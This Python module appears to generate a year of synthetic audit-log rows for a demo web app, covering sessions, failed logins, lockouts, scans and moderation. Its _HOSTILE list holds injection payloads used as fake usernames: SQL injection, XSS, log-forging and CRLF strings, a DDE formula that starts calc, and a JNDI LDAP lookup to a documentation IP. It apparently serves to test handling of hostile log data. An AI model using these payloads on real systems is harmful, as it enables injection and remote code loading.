"""One year of the audit log: sessions, slips, attacks and moderation."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, timedelta
from random import Random
from typing import Any

from demo.data_accounts import DOMAINS, Person

ROWS = 20_000
YEAR = timedelta(days=365)

Row = dict[str, Any]

_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/142.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/19.0 Safari/605.1.15",
    "Mozilla/5.0 (Linux; Android 16; Pixel 10) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/142.0.0.0 Mobile Safari/537.36",
)
_ROBOTS = (
    "python-requests/2.32.3",
    "curl/8.14.1",
    "sqlmap/1.9 (https://sqlmap.org)",
    "Go-http-client/2.0",
    "",
)
_SCANNED_PATHS = (
    "/.env",
    "/wp-login.php",
    "/admin/",
    "/.git/config",
    "/api/users/1/",
    "/phpmyadmin/index.php",
    "/api/admin/export/",
)
_GUESSED_NAMES = ("admin", "root", "test", "starview", "administrator", "info")

# What people type into a log-in form, or send in a header, to break or forge a log.
_HOSTILE = (
    "admin\n2026-01-01 00:00:00 UTC login_success admin",
    "admin\r\n\r\nHTTP/1.1 200 OK",
    "' OR '1'='1' --",
    'Robert"); DROP TABLE starview_app_auditlog;--',
    "<script>alert(document.cookie)</script>",
    '"}, {"event_type": "login_success", "username": "admin"}, {"x": "',
    "\\N",
    "\\.",
    "=cmd|' /C calc'!A0",
    "tab\there, vertical\x0btab and a bell \x07",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "invoice\u202efdp.exe",
    "zero\u200bwidth\ufeff",
    "line\u2028separator\u2029paragraph",
    "Zoë Ångström 🔭 星空",
    "%s %(user)s {0} ${jndi:ldap://192.0.2.66/a}",
    "x" * 150,
)


def audit_rows(everyone: list[Person], now: datetime, rng: Random) -> list[Row]:
    """About ROWS rows of the year before `now`, oldest first."""
    author = _Author(everyone, now, rng)
    rows = author.registrations() + author.hostile()
    while len(rows) < ROWS:
        rows += author.story()
    rows = [row for row in rows if now - YEAR <= row["timestamp"] <= now]
    return sorted(rows, key=lambda row: row["timestamp"])


@dataclass(frozen=True)
class _Client:
    """Where a request comes from."""

    ip_address: str | None
    user_agent: str


class _Author:
    """Writes stories: the rows that one visit, or one attack, leaves behind."""

    def __init__(self, everyone: list[Person], now: datetime, rng: Random) -> None:
        self._now = now
        self._rng = rng
        self._everyone = everyone
        self._members = [person for person in everyone if person.last_login]
        self._staff = [person for person in self._members if person.is_staff]
        self._waiting = [person for person in everyone if person.kind == "squatter"]
        self._stories: dict[Callable[[], list[Row]], int] = {
            self._session: 60,
            self._slip: 9,
            self._attack: 4,
            self._reset: 3,
            self._unconfirmed: 2,
            self._failed_registration: 3,
            self._scan: 5,
            self._denied: 2,
            self._moderation: 4,
        }

    def story(self) -> list[Row]:
        write = self._rng.choices(
            list(self._stories), weights=list(self._stories.values())
        )[0]
        return write()

    # -- what everyone leaves behind ----------------------------------------------

    def registrations(self) -> list[Row]:
        return [
            self._row(
                "registration_success",
                person.joined,
                self._client_of(person),
                person,
                message=f"New user registered: {person.username}",
                metadata={"method": "google" if person.has_google else "email"},
            )
            for person in self._everyone
            if not person.is_system_account
        ]

    def hostile(self) -> list[Row]:
        """Each text twice: once to be archived, once too young."""
        return [
            self._row(
                "login_failed",
                self._now - timedelta(days=days + number / 10),
                _Client("2001:db8:bad::66", text[:60]),
                username=text,
                message=f"Failed login attempt for: {text}",
                metadata={"reason": "invalid_credentials", "attempted": text},
            )
            for days in (45, 12)
            for number, text in enumerate(_HOSTILE)
        ]

    # -- stories ------------------------------------------------------------------

    def _session(self) -> list[Row]:
        person, moment = self._somebody()
        client = self._client_of(person)
        rows = [self._login(person, moment, client)]
        if self._rng.random() < 0.6:
            minutes = self._rng.uniform(2, 240)
            rows.append(
                self._row(
                    "logout",
                    moment + timedelta(minutes=minutes),
                    client,
                    person,
                    message=f"User {person.username} logged out",
                    metadata={"session_minutes": round(minutes)},
                )
            )
        return rows

    def _slip(self) -> list[Row]:
        """A wrong password or two, then the right one."""
        person, moment = self._somebody()
        client = self._client_of(person)
        slips = self._rng.choice((1, 1, 2))
        rows = [
            self._failed_login(
                person.username, moment + timedelta(seconds=9 * slip), client
            )
            for slip in range(slips)
        ]
        return [*rows, self._login(person, moment + timedelta(seconds=40), client)]

    def _attack(self) -> list[Row]:
        """Five guesses within seconds, then the lock."""
        moment, client = self._moment(), self._robot()
        name = self._rng.choice(_GUESSED_NAMES)
        rows = [
            self._failed_login(name, moment + timedelta(seconds=guess), client)
            for guess in range(5)
        ]
        rows.append(
            self._row(
                "login_locked",
                moment + timedelta(seconds=5),
                client,
                username=name,
                message=f"Account locked after 5 failed attempts: {name}",
                metadata={"failures": 5, "locked_minutes": 60},
            )
        )
        return rows

    def _reset(self) -> list[Row]:
        person, moment = self._somebody()
        client = self._client_of(person)
        asked = self._row(
            "password_reset_requested",
            moment,
            client,
            person,
            message=f"Password reset requested for {person.username}",
            metadata={"path": "/api/auth/password-reset/"},
        )
        changed = self._row(
            "password_changed",
            moment + timedelta(minutes=self._rng.uniform(1, 50)),
            client,
            person,
            message=f"User {person.username} changed their password",
            metadata={"via": "reset_link"},
        )
        return [asked, changed]

    def _unconfirmed(self) -> list[Row]:
        """Somebody who never followed the link tries to log in."""
        person = self._rng.choice(self._waiting)
        moment = person.joined + (self._now - person.joined) * self._rng.random()
        return [
            self._row(
                "login_failed",
                moment,
                self._client_of(person),
                person,
                message=f"Login refused, e-mail not verified: {person.username}",
                metadata={"reason": "email_not_verified"},
            )
        ]

    def _failed_registration(self) -> list[Row]:
        name = f"{self._rng.choice(_GUESSED_NAMES)}{self._rng.randrange(1000)}"
        return [
            self._row(
                "registration_failed",
                self._moment(),
                self._robot(),
                username=name,
                message="Registration failed: a user with that e-mail exists",
                metadata={
                    "errors": {"email": ["already in use"]},
                    "email": f"{name}@{self._rng.choice(DOMAINS)}",
                },
            )
        ]

    def _scan(self) -> list[Row]:
        moment, client = self._moment(), self._robot()
        paths = self._rng.sample(_SCANNED_PATHS, self._rng.randrange(2, 6))
        return [
            self._row(
                "access_forbidden",
                moment + timedelta(milliseconds=220 * number),
                client,
                message=f"Forbidden: GET {path}",
                metadata={"path": path, "method": "GET", "status": 403},
            )
            for number, path in enumerate(paths)
        ]

    def _denied(self) -> list[Row]:
        person, moment = self._somebody()
        location = self._rng.randrange(1, 40)
        return [
            self._row(
                "permission_denied",
                moment,
                self._client_of(person),
                person,
                message=f"{person.username} may not edit location {location}",
                metadata={"path": f"/api/locations/{location}/", "method": "PATCH"},
            )
        ]

    def _moderation(self) -> list[Row]:
        person, moment = self._somebody(self._staff)
        event, verb = self._rng.choice(
            (
                ("location_verified", "verified location"),
                ("location_verified", "verified location"),
                ("location_unverified", "withdrew location"),
                ("content_moderated", "hid review"),
            )
        )
        target = self._rng.randrange(1, 40)
        return [
            self._row(
                event,
                moment,
                self._client_of(person),
                person,
                message=f"{person.username} {verb} {target}",
                metadata={"target_id": target, "note": "naïve – see “rules” §3"},
            )
        ]

    # -- rows ---------------------------------------------------------------------

    def _login(self, person: Person, moment: datetime, client: _Client) -> Row:
        return self._row(
            "login_success",
            moment,
            client,
            person,
            message=f"User {person.username} logged in successfully",
            metadata={"path": "/api/auth/login/", "remember": moment.minute % 2 == 0},
        )

    def _failed_login(self, name: str, moment: datetime, client: _Client) -> Row:
        return self._row(
            "login_failed",
            moment,
            client,
            username=name,
            message=f"Failed login attempt for: {name}",
            metadata={"path": "/api/auth/login/", "reason": "invalid_credentials"},
        )

    def _row(
        self,
        event_type: str,
        moment: datetime,
        client: _Client,
        person: Person | None = None,
        *,
        username: str = "",
        message: str,
        metadata: dict[str, Any],
    ) -> Row:
        refused = ("login_failed", "login_locked", "registration_failed")
        denied = ("permission_denied", "access_forbidden")
        return {
            "event_type": event_type,
            "timestamp": moment,
            "success": event_type not in refused + denied,
            "message": message,
            "user_id": person.id if person else None,
            "username": person.username if person else username,
            "ip_address": client.ip_address,
            "user_agent": client.user_agent,
            "metadata": metadata,
        }

    # -- who, when, from where ----------------------------------------------------

    def _somebody(self, among: list[Person] | None = None) -> tuple[Person, datetime]:
        person = self._rng.choice(among or self._members)
        first = max(person.joined, self._now - YEAR)
        return person, first + (self._now - first) * self._rng.random()

    def _moment(self) -> datetime:
        return self._now - YEAR * self._rng.random()

    def _client_of(self, person: Person) -> _Client:
        """A person keeps address and browser; every third is on IPv6."""
        number = person.id
        address = f"198.51.100.{1 + number % 254}"
        if number % 3 == 0:
            address = f"2001:db8:{number:x}::{1 + number % 9}"
        return _Client(address, _BROWSERS[number % len(_BROWSERS)])

    def _robot(self) -> _Client:
        address = f"203.0.113.{self._rng.randrange(1, 255)}"
        # Behind a broken proxy the address is unknown.
        known = self._rng.random() < 0.97
        return _Client(address if known else None, self._rng.choice(_ROBOTS))
